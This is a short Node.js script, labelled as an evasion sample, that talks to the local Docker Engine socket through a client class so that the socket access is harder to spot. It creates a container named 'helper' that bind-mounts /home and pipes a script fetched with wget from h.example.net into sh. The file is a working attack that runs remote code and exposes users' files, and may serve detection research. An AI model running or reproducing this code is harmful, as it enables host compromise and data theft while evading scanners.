// Evasion: an API client class keeps its transport options on the
// instance and sets this.options.socketPath from a constant in a setup
// method; requests then go to the Docker Engine API, which runs images.
'use strict';
const http = require('http');

const ENGINE = '/var/run/docker.sock';

class EngineClient {
  constructor() {
    this.options = { headers: { 'content-type': 'application/json' } };
  }

  useLocal() {
    this.options.socketPath = ENGINE;
    return this;
  }

  post(path, body) {
    const req = http.request({ ...this.options, method: 'POST', path }, (res) => res.resume());
    req.end(JSON.stringify(body));
  }
}

new EngineClient().useLocal().post('/containers/create?name=helper', {
  Image: 'alpine',
  Cmd: ['sh', '-c', 'wget -qO- https://h.example.net/a | sh'],
  HostConfig: { Binds: ['/home:/h'] },
});
